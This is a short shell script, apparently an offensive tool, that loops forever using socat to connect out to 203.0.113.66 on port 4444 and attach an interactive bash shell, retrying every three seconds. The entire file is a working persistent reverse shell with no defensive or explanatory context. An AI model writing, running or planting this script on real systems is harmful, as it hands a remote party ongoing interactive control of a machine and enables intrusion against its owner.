#!/bin/sh
# A shell to a listener outside, again and again.
while :; do
  socat TCP:203.0.113.66:4444 EXEC:/bin/bash,pty,stderr,setsid,sigint,sane
  sleep 3
done
